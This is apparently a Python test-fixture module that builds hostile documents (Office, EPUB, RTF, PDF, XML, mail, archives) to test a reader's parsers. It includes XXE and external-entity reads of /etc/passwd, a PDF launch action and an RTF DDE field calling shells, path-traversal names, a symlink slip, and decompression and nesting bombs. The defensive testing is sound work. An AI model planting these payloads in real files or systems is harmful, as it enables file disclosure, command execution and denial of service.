"""More files made to do harm: pictures, objects, links, swollen and endless structures; all of them written here."""

# ruff: noqa: E501 - markup is written as it stands in files

import base64
import gzip
import json
import plistlib
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

from unit.readers.hostile.hostile_files import BEACON, WORDS, XXE, body, docx, odt, page, paragraph, pdf, zipped
from unit.readers.mail.outlook import compound, message

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIL = f"From: a <a@b.example>\r\nTo: c@d.example\r\nMessage-ID: <1@x>\r\nSubject: Ferry\r\nMIME-Version: 1.0\r\n{{}}\r\n\r\n{WORDS}\r\n"


def _related(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Id="r1" Type="{RELS}/{kind}" TargetMode="External" Target="{target}"/></Relationships>'


def _huge_picture() -> bytes:
    """A PNG that promises 60,000 by 60,000 points."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">2I5B", 60_000, 60_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(50 << 20), 9))
        + chunk(b"IEND", b"")
    )


def _office() -> Iterator[tuple[str, bytes]]:
    here = f'xmlns:r="{RELS}"'
    rels = "word/_rels/document.xml.rels"
    chunk = f'<w:altChunk {here} r:id="r1"/>'
    yield "altchunk.docx", docx(body(chunk + paragraph()), (rels, _related("aFChunk", "file:///etc/passwd")))
    ole = '<w:p><w:r><w:object><o:OLEObject xmlns:o="o" Type="Link" ProgID="Package" r:id="r1" xmlns:r="r"/></w:object></w:r></w:p>'
    yield (
        "ole.docx",
        docx(
            body(ole + paragraph()),
            (rels, _related("oleObject", "file:///etc/passwd")),
            ("word/embeddings/oleObject1.bin", compound({"a": b"x"})),
        ),
    )
    yield (
        "template.docm",
        docx(
            body(paragraph()),
            ("word/_rels/settings.xml.rels", _related("attachedTemplate", BEACON)),
            ("word/vbaProject.bin", b"x" * 100),
        ),
    )
    yield "picture.docx", docx(body(paragraph()), ("word/media/a.png", _huge_picture()))
    twice = BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("word/document.xml", body(paragraph()))
    again = twice.getvalue().replace(b"word/document.xml", b"word/documenT.xml", 1)
    yield "names.docx", again
    yield "absolute.docx", docx(body(paragraph()), ("/etc/cron.d/x.xml", "<x/>"))
    yield "backslash.docx", docx(body(paragraph()), ("..\\..\\x.xml", "<x/>"))
    yield "nul.docx", docx(body(paragraph())).replace(b"word/document.xml", b"word/\0ocument.xml")
    link = f'<w:p><w:hyperlink {here} r:id="r1"><w:r><w:t>{WORDS}</w:t></w:r></w:hyperlink></w:p>'
    yield "smb.docx", docx(body(link), (rels, _related("hyperlink", "\\\\127.0.0.1\\share\\x")))
    fonts = '<w:fonts xmlns:w="w"><w:font><w:embedRegular/></w:font></w:fonts>'
    yield (
        "fonts.docx",
        docx(body(paragraph()), ("word/fontTable.xml", fonts), ("word/fonts/a.odttf", bytes(range(256)) * 400)),
    )
    notes = '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' + "".join(
        f'<w:footnote w:id="{n}"><w:p><w:r><w:footnoteReference w:id="{n}"/></w:r></w:p></w:footnote>'
        for n in range(2000)
    )
    refers = "".join(f'<w:r><w:footnoteReference w:id="{n}"/></w:r>' for n in range(2000))
    yield (
        "notes.docx",
        docx(body(f"<w:p>{refers}</w:p>{paragraph()}"), ("word/footnotes.xml", notes + "</w:footnotes>")),
    )
    yield "runs.docx", docx(body("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 400_000 + "</w:p>"))
    wide = "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 100_000 + "</w:tr></w:tbl>" + paragraph()
    yield "cells.docx", docx(body(wide))
    text = "<x:d xmlns:x='x'><x:body><x:text>{}</x:text></x:body></x:d>"
    picture = f"<x:p><x:image xmlns:l='l' l:href='{BEACON}'/>{WORDS}</x:p>"
    yield "beacon.odt", odt(text.format(picture))
    yield "event.odt", odt(text.format(f"<x:script x:language='Basic'>Shell</x:script><x:p>{WORDS}</x:p>"))
    cells = '<x:table><x:row x:number-rows-repeated="1048576"><x:cell x:number-columns-repeated="16384"><x:p>a</x:p></x:cell></x:row></x:table>'
    yield "repeat.odt", odt(text.format(cells + f"<x:p>{WORDS}</x:p>"))
    yield "locked.docx", compound({"EncryptedPackage": bytes(5000), "EncryptionInfo": b"x"})
    yield "deep.odt", odt(text.format("<x:span>" * 100_000 + WORDS))


def _book(chapter: str, opf: str = "", *more: tuple[str | zipfile.ZipInfo, str | bytes]) -> bytes:
    container = '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>'
    opf = (
        opf
        or '<package><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
    )
    return zipped(
        [
            ("mimetype", "application/epub+zip"),
            ("META-INF/container.xml", container),
            ("a.opf", opf),
            ("a.xhtml", chapter),
            *more,
        ]
    )


def _books() -> Iterator[tuple[str, bytes]]:
    yield (
        "beacon.epub",
        _book(f'<html><body><img src="{BEACON}"/><iframe src="{BEACON}"/><p>{WORDS}</p></body></html>'),
    )
    far = f'<package><manifest><item id="a" href="{BEACON}" media-type="application/xhtml+xml"/><item id="b" href="file:///etc/passwd" media-type="text/html"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>'
    yield "outside.epub", _book("<html/>", far)
    yield "xxe_chapter.epub", _book(f"{XXE}<html><body><p>&xxe; {WORDS}</p></body></html>")
    yield "script.epub", _book(f"<html><body><script>while(1);</script><p>{WORDS}</p></body></html>")
    yield (
        "locked.epub",
        _book("<html/>", "", ("META-INF/encryption.xml", "<encryption/>"), ("META-INF/rights.xml", "<rights/>")),
    )
    chapters = (
        "".join(f'<item id="c{n}" href="a.xhtml" media-type="application/xhtml+xml"/>' for n in range(20_000))
        + "</manifest><spine>"
    )
    chapters += "".join(f'<itemref idref="c{n}"/>' for n in range(20_000))
    yield (
        "again.epub",
        _book(f"<html><body><p>{WORDS * 300}</p></body></html>", f"<package><manifest>{chapters}</spine></package>"),
    )


def _rich_text() -> Iterator[tuple[str, bytes]]:
    words = WORDS.encode()
    yield "template.rtf", b"{\\rtf1{\\*\\template %b}%b}" % (BEACON.encode(), words)
    yield (
        "package.rtf",
        b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata %b}}%b}"
        % (b"d0cf11e0" * 200_000, words),
    )
    yield "picture.rtf", b"{\\rtf1{\\pict\\pngblip\\picw999999 %b}%b}" % (b"89" * 2_000_000, words)
    yield "negative.rtf", b"{\\rtf1 \\bin-5 \\uc-9 \\u-99999? \\li-2147483649 %b}" % words
    yield "dde.rtf", b'{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd "/c x"}{\\fldrslt }}%b}' % words
    yield "unicode.rtf", b"{\\rtf1\\uc0 " + b"\\u55357 " * 200_000 + words + b"}"
    yield "unclosed.rtf", b"{\\rtf1 " + b"{\\*\\unknown " * 300_000 + words


def _pdfs() -> Iterator[tuple[str, bytes]]:
    shown = b"BT /F 12 Tf 50 700 Td (%b) Tj ET" % WORDS.encode()

    def altered(old: bytes, new: bytes, number: int = 0, *more: bytes) -> bytes:
        objects = page(shown)
        objects[number] = objects[number].replace(old, new)
        return pdf([*objects, *more])

    action = b"/S/JavaScript/JS(app.alert(1))"
    yield "launch.pdf", altered(action, b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>")
    yield "uri.pdf", altered(action, b"/S/URI/URI(%b)" % BEACON.encode())
    yield "submit.pdf", altered(action, b"/S/SubmitForm/F(%b)" % BEACON.encode())
    yield "goto.pdf", altered(action, b"/S/GoToR/F(/etc/passwd)/D[0/Fit]")
    attached = (
        b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
    )
    yield "attached.pdf", altered(b"/Pages", b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>/Pages", 0, *attached)
    yield "outside.pdf", pdf(page(b"", b"/F(/etc/passwd)/FFilter/ASCIIHexDecode"))
    yield (
        "xfa.pdf",
        altered(
            b"/Pages",
            b"/AcroForm<</XFA 6 0 R>>/Pages",
            0,
            b"<</Length %d>>stream\n%b\nendstream" % (len(XXE), XXE.encode()),
        ),
    )
    yield (
        "prev.pdf",
        pdf(page(shown)).replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev 9>>") + b"\nstartxref\n9\n%%EOF",
    )
    yield (
        "outline.pdf",
        altered(
            b"/Pages",
            b"/Outlines 6 0 R/Pages",
            0,
            b"<</First 7 0 R/Last 7 0 R>>",
            b"<</Title(x)/Next 7 0 R/Parent 6 0 R/First 6 0 R>>",
        ),
    )
    yield "length.pdf", pdf([*page(shown)[:3], b"<</Length 4 0 R>>stream\n%b\nendstream" % shown, page(shown)[4]])
    kids = b" ".join(b"3 0 R" for _ in range(20_000))
    yield "pages.pdf", altered(b"[3 0 R]/Count 1", b"[%b]/Count 20000" % kids, 1)
    yield (
        "image.pdf",
        pdf(
            [
                *page(shown + b" /X Do", resources=b"<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"),
                b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 9>>stream\n123456789\nendstream",
            ]
        ),
    )
    yield (
        "font.pdf",
        pdf(
            [
                *page(shown)[:4],
                b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>",
                b"<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>",
                b"<</Length 4000>>stream\n%b\nendstream" % (b"\0\1\0\0" + b"\xff" * 3996),
            ]
        ),
    )
    yield "depth.pdf", pdf([b"[" * 50_000 + b"]" * 50_000, *page(shown)[1:]])


def _markup() -> Iterator[tuple[str, bytes]]:
    p = f"<p>{WORDS}</p>"
    nitf = f"<nitf><body><body.content>{p}</body.content></body></nitf>"
    swollen = f'<!DOCTYPE nitf [<!ENTITY a "{"x" * 100_000}">]>' + nitf.replace("<p>", "<p>" + "&a;" * 20_000, 1)
    yield "quadratic.xml", swollen.encode()
    parameters = f'<!DOCTYPE nitf [<!ENTITY % a SYSTEM "{BEACON}"><!ENTITY % b "<!ENTITY c SYSTEM \'file:///etc/passwd\'>">%a;%b;]>'
    yield "parameters.xml", (parameters + nitf.replace("<p>", "<p>&c; ", 1)).encode()
    yield (
        "recursive.xml",
        ('<!DOCTYPE nitf [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + nitf.replace("<p>", "<p>&a; ", 1)).encode(),
    )
    yield "utf16.xml", (XXE + nitf.replace("<p>", "<p>&xxe; ", 1)).encode("utf-16")
    yield "stylesheet.xml", (f'<?xml-stylesheet type="text/xsl" href="{BEACON}"?>' + nitf).encode()
    schema = f'<nitf xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{BEACON}">'
    yield "schema.xml", nitf.replace("<nitf>", schema).encode()
    yield "long.xml", nitf.replace("<p>", "<p>" + "a" * (11 << 20) + " ", 1).encode()
    yield (
        "base.rss",
        f'<rss xml:base="file:///etc/"><channel><item><title>T</title><link>passwd</link><enclosure url="{BEACON}" length="9"/><description>{WORDS}</description></item></channel></rss>'.encode(),
    )
    yield (
        "entries.rss",
        (
            "<rss><channel>"
            + f"<item><title>T</title><description>{WORDS[:40]}</description></item>" * 100_000
            + "</channel></rss>"
        ).encode(),
    )
    yield (
        "spaces.rss",
        (
            "<rss "
            + "".join(f'xmlns:n{n}="u{n}" ' for n in range(30_000))
            + f"><channel><item><title>{WORDS}</title></item></channel></rss>"
        ).encode(),
    )
    items = "<newsItem><contentSet><inlineXML><p>a</p></inlineXML></contentSet></newsItem>" * 30_000
    yield "items.xml", f"<newsMessage>{items}</newsMessage>".encode()
    yield (
        "nested.xml",
        (
            "<NewsML>"
            + "<NewsItem><NewsComponent><NewsLines><HeadLine>a</HeadLine></NewsLines>" * 120
            + f"<ContentItem><DataContent>{p}</DataContent></ContentItem>"
        ).encode(),
    )
    component = "<NewsComponent><NewsLines><HeadLine>a</HeadLine></NewsLines><ContentItem><DataContent>b</DataContent></ContentItem></NewsComponent>"
    yield "components.xml", f"<NewsML><NewsItem>{component * 5000}</NewsItem></NewsML>".encode()
    yield (
        "refresh.html",
        f'<html><head><meta http-equiv="refresh" content="0;url={BEACON}"><base href="file:///etc/"></head><body><iframe src="passwd"></iframe>{p * 5}'.encode(),
    )
    yield (
        "svg.html",
        f'<html><body><svg><image href="{BEACON}"/><foreignObject><p>x</p></foreignObject></svg><style>@import "{BEACON}";</style>{p * 5}'.encode(),
    )
    yield "comment.html", ("<html><body>" + p * 3 + "<!--" * 200_000).encode()
    yield "data.html", f'<html><body><img src="data:image/png;base64,{"A" * 8_000_000}">{p * 5}'.encode()
    yield "attributes.html", ("<html><body><div " + " ".join(f"a{n}=x" for n in range(200_000)) + f">{p * 5}").encode()
    yield (
        "jsonld.html",
        ('<html><head><script type="application/ld+json">' + "[" * 100_000 + f"</script></head><body>{p * 5}").encode(),
    )
    yield "title.html", ("<html><head><title>" + "a | " * 300_000 + f"</title></head><body>{p * 5}").encode()


def _mails() -> Iterator[tuple[str, bytes]]:
    parts = "".join(f"--b\r\nContent-Type: text/plain\r\n\r\nPart {n}.\r\n" for n in range(10_000))
    yield "parts.eml", (_MAIL.format("Content-Type: multipart/mixed; boundary=b") + parts + "--b--").encode()
    files = "".join(
        f"--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename={n}.txt\r\n\r\nPart {n}.\r\n"
        for n in range(10_000)
    )
    yield "files.eml", (_MAIL.format("Content-Type: multipart/mixed; boundary=b") + files + "--b--").encode()
    yield (
        "quoted.eml",
        _MAIL.format("Content-Transfer-Encoding: quoted-printable\r\nContent-Type: text/plain").encode()
        + b"=41" * 3_000_000
        + b"=\r\n" * 500_000,
    )
    packed = base64.encodebytes(gzip.compress(bytes(100 << 20)))
    yield (
        "packed.eml",
        (
            _MAIL.format("Content-Type: multipart/mixed; boundary=b")
            + '--b\r\nContent-Type: application/gzip; name="a.gz"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        ).encode()
        + packed
        + b"\r\n--b--",
    )
    bomb = base64.encodebytes(docx(body(paragraph("A" * (100 << 20)))))
    yield (
        "bomb.eml",
        (
            _MAIL.format("Content-Type: multipart/mixed; boundary=b")
            + '--b\r\nContent-Type: application/x; name="a.docx"\r\nContent-Disposition: attachment; filename="a.docx"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        ).encode()
        + bomb
        + b"\r\n--b--",
    )
    slip = (
        _MAIL.format("Content-Type: multipart/mixed; boundary=b")
        + f'--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="../../../etc/cron.d/x"\r\n\r\n{WORDS}\r\n--b--'
    )
    yield "slip.eml", slip.encode()
    yield "charset.eml", _MAIL.format('Content-Type: text/plain; charset="../../etc/passwd"').encode()
    yield (
        "folded.eml",
        (
            "From: a@b.example\r\nMessage-ID: <1@x>\r\nReferences:" + "\r\n <a@b>" * 300_000 + f"\r\n\r\n{WORDS}"
        ).encode(),
    )
    yield (
        "boundary.eml",
        (_MAIL.format(f"Content-Type: multipart/mixed; boundary={'b' * 500_000}") + "--" + "b" * 500_000).encode(),
    )
    yield (
        "star.eml",
        (_MAIL.format("Content-Type: text/plain; " + "; ".join(f"name*{n}*=a" for n in range(20_000)))).encode(),
    )
    yield (
        "messages.mbox",
        f"From a@b Thu Mar 12 10:00:00 2026\nFrom: a@b.example\nSubject: x\n\n{WORDS}\n\n".encode() * 2_000,
    )
    frames = "".join(
        f"--b\r\nContent-Type: text/html\r\nContent-Location: {BEACON}\r\n\r\n<frameset><frame src=cid:{n}></frameset>\r\n"
        for n in range(5000)
    )
    yield (
        "frames.mhtml",
        f"From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n{frames}--b\r\nContent-Type: text/html\r\n\r\n<html><body>{f'<p>{WORDS}</p>' * 4}</body></html>\r\n--b--".encode(),
    )
    frame = {"WebMainResource": {"WebResourceData": b"<html>", "WebResourceURL": "file:///etc/passwd"}}
    loops = frame | {"WebSubframeArchives": [frame] * 50_000}
    yield "loops.webarchive", plistlib.dumps(loops, fmt=plistlib.FMT_BINARY)


def _messages() -> Iterator[tuple[str, bytes]]:
    whole = compound(message("Ferry", "A", WORDS))
    loop = bytearray(whole)
    table = struct.unpack_from("<I", whole, 76)[0]
    place = (table + 1) * 512
    loop[place : place + 512] = struct.pack("<128I", *([0] * 128))
    yield "chain.msg", bytes(loop)
    tree = bytearray(whole)
    directory = (struct.unpack_from("<I", whole, 48)[0] + 1) * 512
    for entry in range(4):
        struct.pack_into("<3I", tree, directory + 128 * entry + 68, 0, 1, 0)
    yield "tree.msg", bytes(tree)
    many = {f"__substg1.0_{n:04X}001F": b"x" for n in range(15_000)}
    yield "streams.msg", compound(message("Ferry", "A", WORDS) | many)
    inner = message("Ferry", "A", WORDS)
    for _ in range(30):
        inner = message("Ferry", "A", WORDS) | {
            f"__attach_version1.0_#00000000/__substg1.0_3701000D/{key}": value for key, value in inner.items()
        }
    yield "attached.msg", compound(inner)
    packed = struct.pack("<IIII", 12, 0x7FFFFFFF, 0x75465A4C, 0) + b"\0"
    yield (
        "rtf.msg",
        compound(
            {key: value for key, value in message("Ferry", "A", "").items() if "1000001F" not in key}
            | {"__substg1.0_10090102": packed}
        ),
    )


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "lines.txt", b"\n" * 3_000_000 + WORDS.encode()
    yield "bidi.txt", ("\u202e" * 200_000 + WORDS).encode()
    yield "nul.txt", b"\0" * 1_000_000 + WORDS.encode()
    yield "surrogates.txt", b"\xed\xa0\x80" * 200_000 + WORDS.encode()
    yield "bylines.txt", ("By " + "A b, " * 200_000 + "\n\n" + WORDS).encode()
    yield "dates.txt", ("1 Jan 1 Jan " * 100_000 + "\n\n" + WORDS).encode()
    yield "brackets.txt", ("(" * 300_000 + WORDS + ")" * 300_000).encode()
    yield "caps.txt", ("PORT RUUN, " * 100_000 + "\n" + WORDS).encode()
    yield "rules.txt", ("=====\n" * 200_000 + WORDS).encode()
    yield "front.md", ("---\n" + "a: &a [*a, *a]\n" * 50_000 + "---\n" + WORDS).encode()
    yield "utf7.txt", b"+ADw-script+AD4-" * 50_000 + WORDS.encode()
    yield "surrogates.json", b'{"headline":"\\ud800","versioncreated":"2026","body_text":"\\udfff %b"}' % WORDS.encode()
    yield (
        "constants.json",
        b'{"headline":NaN,"urgency":Infinity,"versioncreated":"2026","body_text":"%b"}' % WORDS.encode(),
    )
    yield "many.json", json.dumps([{"headline": "a", "body_text": "b", "urgency": 1}] * 100_000).encode()
    yield "answers.json", (b'{"headline":"x","urgency":1,"data":{"item":' * 400) + b"{}" + b"}}" * 400
    yield "records.ris", b"TY  - NEWS\nTI  - a\nER  - \n" * 100_000
    yield "braces.bib", b"@article{a, title={" + b"{" * 200_000 + b"x" + b"}" * 200_000 + b"}}"
    yield (
        "strings.bib",
        b"".join(b"@string{s%d = s%d # s%d}\n" % (n + 1, n, n) for n in range(60)) + b"@article{a, title = s60}",
    )
    yield "crossref.bib", b"@article{a, title={x}, crossref={b}}\n@article{b, title={y}, crossref={a}}"
    yield "authors.bib", b"@article{a, title={x}, author={" + b"A and " * 200_000 + b"B}}"
    yield "flush.anpa", b"\x16\x16\x01z1234\x1f-\r\nr z BC-A 1-1 1\r\n\x02" + b"^a<\r\n" * 100_000 + b"\x03\x04"
    yield "closed.iptc", b"\x01abc0001 4 s 1 a\r\n\x02" + b"a \n" * 100_000 + b" =\x03\x04"


def _containers() -> Iterator[tuple[str, bytes]]:
    tar = BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("../../etc/x")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    yield "slip.tar", tar.getvalue()
    yield "program.txt", b"\x7fELF" + bytes(5000)
    yield "both.pdf", b"%PDF-1.7\n" + zipped([("a.txt", WORDS)])
    yield "nested.zip", zipped([("a.zip", zipped([("b.zip", zipped([("c.txt", "A" * (20 << 20))]))]))])


def more_hostile_files() -> Iterator[tuple[str, bytes]]:
    """All of them."""
    yield from _office()
    yield from _books()
    yield from _rich_text()
    yield from _pdfs()
    yield from _markup()
    yield from _mails()
    yield from _messages()
    yield from _texts()
    yield from _containers()
